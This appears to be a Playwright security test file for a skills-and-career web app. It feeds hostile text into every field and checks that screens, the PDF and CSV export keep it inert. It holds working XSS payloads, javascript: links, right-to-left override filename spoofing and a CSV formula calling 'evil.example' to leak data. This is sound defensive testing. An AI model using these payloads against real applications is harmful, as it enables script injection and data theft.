import type { Page } from '@playwright/test';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { expect, test } from './fixtures';
import { rpc, seedFirstHour } from './seed';
import type { RunningHost } from './web-host';
import { SCENARIO_PARAMS, walkEverywhere } from './walk';

/**
 * Hostile text in every field a person can fill, then every screen, tab, chart tooltip, dialog,
 * the print route, the PDF and the exported CSV: no script runs (each payload would set
 * window.__pwned to the field's name), no element is made from the text, and the text is shown
 * as typed.
 */

declare global {
  interface Window {
    __pwned?: string;
  }
}

/** Markup that runs the moment it is parsed as HTML, tagged with the field it was typed into. */
const xss = (field: string) => `<img src=x onerror="window.__pwned='${field}'"><script>window.__pwned='${field}'</script>`;
/** A right-to-left override, stored and shown as the character it is (it is not markup). */
const RLO = '\u202E';

const TEXT = {
  // The override comes last: it reverses what follows it on screen (and so in pdftotext's reading).
  profileName: `Ada ${xss('profile')} ${RLO}gnp.exe`,
  skillName: `Skill ${xss('skill')}`,
  skillDescription: `Desc ${xss('skill-description')} [run](javascript:window.__pwned='skill-description-link')`,
  note: [
    `# Note ${xss('note-heading')}`,
    `[click me](javascript:window.__pwned='note-link') <a href="javascript:window.__pwned='note-a'">a</a>`,
    `<iframe src="javascript:window.__pwned='note-iframe'"></iframe> **bold** ${RLO}txt.exe`,
    'W'.repeat(5_000),
  ].join('\n'),
  resourceTitle: `Res ${xss('resource')}`,
  sessionNote: `Session ${xss('session')}`,
  goalTitle: `Goal ${xss('goal')}`,
  goalNote: `Goal note ${xss('goal-note')} ${'N'.repeat(3_000)}`,
  roadmapName: `Map ${xss('roadmap')}`,
  scenarioName: `Scen ${xss('scenario')}`,
  datasetName: `Data ${xss('dataset')}`,
  csvTitle: `<script>window.__pwned='csv-title'</script>`,
  csvFormulaArea: '=HYPERLINK("https://evil.example/?leak","click")',
  csvFullWidthArea: `＋1+1 <img src=x onerror="window.__pwned='csv-area'">`,
};

interface Seeded {
  skillId: string;
}

async function seedHostile(page: Page, host: RunningHost): Promise<Seeded> {
  await seedFirstHour(page, host);
  const profile = (await rpc(page, host, 'profile.get')) as Record<string, unknown>;
  await rpc(page, host, 'profile.save', { ...profile, name: TEXT.profileName });
  const skill = (await rpc(page, host, 'skills.createCustom', {
    name: TEXT.skillName,
    category: 'languages',
    description: TEXT.skillDescription,
    estimatedHours: 40,
  })) as { id: string };
  await rpc(page, host, 'skills.saveNote', { skillId: skill.id, body: TEXT.note });
  await rpc(page, host, 'skills.addResource', { skillId: skill.id, title: TEXT.resourceTitle, url: 'https://example.com/"><script>window.__pwned="url"</script>' });
  // A javascript: (or any non-https) link is refused before it is stored.
  for (const url of ["javascript:window.__pwned='url'", 'data:text/html,<script>1</script>', 'http://example.com/']) {
    await expect(rpc(page, host, 'skills.addResource', { skillId: skill.id, title: 'x', url })).rejects.toThrow(/VALIDATION/);
  }
  await rpc(page, host, 'progress.set', { skillId: skill.id, status: 'learning', level: 1, targetLevel: 3 });
  await rpc(page, host, 'progress.logStudy', { skillId: skill.id, date: new Date().toISOString().slice(0, 10), minutes: 30, note: TEXT.sessionNote });
  await rpc(page, host, 'goals.create', { kind: 'custom', title: TEXT.goalTitle, note: TEXT.goalNote, dueDate: '2030-06-30' });
  const roadmap = (await rpc(page, host, 'roadmap.create', { name: TEXT.roadmapName, pathId: 'backend-foundations' })) as { id: number };
  await rpc(page, host, 'roadmap.setActive', { id: roadmap.id });
  await rpc(page, host, 'roadmap.addItem', { roadmapId: roadmap.id, skillId: skill.id });
  await rpc(page, host, 'career.createScenario', { name: TEXT.scenarioName, params: SCENARIO_PARAMS });
  await page.reload();
  return { skillId: skill.id };
}

/** A CSV whose cells are hostile: markup, a formula, a full-width formula trigger. */
function hostileCsv(dir: string): string {
  const rows = [['title', 'level', 'area', 'base', 'date']];
  for (let i = 0; i < 6; i++) {
    rows.push([TEXT.csvTitle, 'senior', TEXT.csvFormulaArea, String(150_000 + i * 1_000), '2025']);
    rows.push([TEXT.csvTitle, 'mid', TEXT.csvFullWidthArea, String(120_000 + i * 1_000), '2025']);
  }
  const file = path.join(dir, 'hostile.csv');
  writeFileSync(file, Papa.unparse(rows, { newline: '\n' }));
  return file;
}

/** Imports the hostile CSV through the screen, naming the dataset with hostile text. */
async function importHostileCsv(page: Page, dir: string) {
  await page.getByRole('link', { name: 'Salary', exact: true }).click();
  await page.getByLabel('Import CSV…').setInputFiles(hostileCsv(dir));
  await page.getByLabel('Dataset name').fill(TEXT.datasetName);
  await page.getByRole('button', { name: 'Import hostile.csv' }).click();
  await expect(page.getByText(/Imported 12 rows as/)).toBeVisible();
}

/** Nothing ran, nothing was built from the text. */
async function expectInert(page: Page, where: string) {
  const found = await page.evaluate(() => {
    const scheme = /^\s*([a-z][a-z0-9+.-]*):/i;
    return {
      pwned: window.__pwned ?? null,
      elements: [...document.querySelectorAll('img[src="x"], iframe, object, embed, script:not([src]), [onerror], [onclick], [onload]')].map((e) =>
        e.outerHTML.slice(0, 120),
      ),
      links: [...document.querySelectorAll('a[href], area[href]')]
        .map((a) => a.getAttribute('href') ?? '')
        .filter((href) => {
          const s = scheme.exec(href)?.[1]?.toLowerCase();
          return s !== undefined && s !== 'https' && s !== 'mailto';
        }),
    };
  });
  expect(found, `on ${where}`).toEqual({ pwned: null, elements: [], links: [] });
}

/** Where each text must be shown as typed (checked in the page's text, whitespace as rendered). */
const SHOWN: Record<string, readonly string[]> = {
  Dashboard: [TEXT.roadmapName, TEXT.skillName, TEXT.sessionNote],
  Skills: [TEXT.skillName],
  Goals: [TEXT.goalTitle],
  Roadmap: [TEXT.roadmapName, TEXT.skillName],
  Projection: [TEXT.scenarioName],
  Plan: [TEXT.profileName, TEXT.goalTitle],
  'Salary › Your data': [TEXT.datasetName],
  'skill page': [TEXT.skillName, TEXT.resourceTitle, TEXT.sessionNote, TEXT.note.split('\n')[1] ?? ''],
  'print route': [TEXT.profileName, TEXT.goalTitle, TEXT.roadmapName, TEXT.scenarioName, TEXT.skillName],
};

const pageText = (page: Page) => page.evaluate(() => document.body.innerText.replace(/\s+/g, ' '));
const flat = (text: string) => text.replace(/\s+/g, ' ');

test('hostile text in every field stays text on every screen, tab, chart tooltip, dialog and the print route', async ({ app, host }) => {
  test.setTimeout(300_000);
  const dir = mkdtempSync(path.join(tmpdir(), 'trajectory-inert-'));
  try {
    const { skillId } = await seedHostile(app, host);
    await importHostileCsv(app, dir);
    const seen = new Set<string>();
    await walkEverywhere(app, host, {
      skillId,
      check: async (where) => {
        await expectInert(app, where);
        const key = where.startsWith('skill page') ? 'skill page' : where;
        for (const text of SHOWN[key] ?? []) {
          await expect.poll(() => pageText(app), { message: `${where} shows ${text.slice(0, 40)}…` }).toContain(flat(text));
        }
        if (SHOWN[key]) seen.add(key);
      },
    });
    expect([...seen].sort()).toEqual(Object.keys(SHOWN).sort());
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the profile shows the hostile name as typed, in its field', async ({ app, host }) => {
  await seedHostile(app, host);
  await app.getByRole('link', { name: 'Profile', exact: true }).click();
  await expect(app.getByLabel('Your name')).toHaveValue(TEXT.profileName);
  await expectInert(app, 'Profile');
});

test('the PDF prints hostile text as typed and the exported CSV neutralises formula cells', async ({ app, host }) => {
  test.setTimeout(180_000);
  const dir = mkdtempSync(path.join(tmpdir(), 'trajectory-inert-'));
  try {
    await seedHostile(app, host);
    await importHostileCsv(app, dir);

    // The imported dataset's bands, exported: cells come back as text a spreadsheet will not run.
    await app.getByRole('button', { name: 'Show its bands' }).click();
    await app.getByRole('checkbox', { name: 'Area' }).check();
    await app.getByRole('checkbox', { name: 'Level' }).uncheck();
    const table = app.getByRole('table', { name: /pay percentiles/ });
    await expect(table.getByRole('row')).toHaveCount(3);
    for (const cell of [TEXT.csvFormulaArea, TEXT.csvFullWidthArea]) await expect(table).toContainText(cell);
    await expectInert(app, 'Salary explorer with the hostile dataset');
    const downloaded = app.waitForEvent('download');
    await app.getByRole('button', { name: 'Export CSV' }).click();
    const csvFile = path.join(dir, 'export.csv');
    await (await downloaded).saveAs(csvFile);
    const cells = Papa.parse<string[]>(readFileSync(csvFile, 'utf8').replace(/^\uFEFF/, '')).data.flat();
    expect(cells).toContain(`'${TEXT.csvFormulaArea}`);
    expect(cells).toContain(`'${TEXT.csvFullWidthArea}`);
    expect(cells.filter((c) => /^[\s]*[=+\-@＝＋－＠]/.test(c))).toEqual([]);

    await app.getByRole('link', { name: 'Plan', exact: true }).click();
    // The saved scenario is chosen by default once the scenarios have loaded.
    await expect(app.getByRole('checkbox', { name: TEXT.scenarioName })).toBeChecked();
    const downloadedPdf = app.waitForEvent('download');
    await app.getByRole('button', { name: 'Export PDF' }).click();
    const pdfFile = path.join(dir, 'plan.pdf');
    await (await downloadedPdf).saveAs(pdfFile);
    // Without whitespace: the PDF may wrap a long token anywhere, and pdftotext then breaks the line there.
    const squeeze = (t: string) => t.replace(/\s+/g, '');
    const text = squeeze(execFileSync('pdftotext', ['-raw', pdfFile, '-'], { encoding: 'utf8' }));
    for (const field of ['profile', 'goal', 'roadmap', 'scenario', 'skill']) expect(text).toContain(squeeze(xss(field)));
    await expectInert(app, 'Plan after export');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
